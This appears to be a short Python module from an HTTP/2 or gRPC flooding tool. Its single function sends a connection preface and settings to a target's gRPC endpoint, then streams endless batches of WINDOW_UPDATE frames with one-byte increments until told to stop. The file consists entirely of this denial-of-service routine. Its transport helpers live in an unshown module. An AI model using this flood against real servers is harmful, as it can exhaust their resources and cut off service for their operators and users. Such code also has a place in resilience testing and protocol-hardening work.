"""WINDOW_UPDATE frames by one byte."""

import itertools
import struct

from wire import PREFACE, WINDOW_UPDATE, flood_connection, frame, settings


def flood(target, until):
    chunk = frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)) * 1_000
    return flood_connection(target.grpc, until, PREFACE + settings(), lambda: itertools.repeat(chunk))
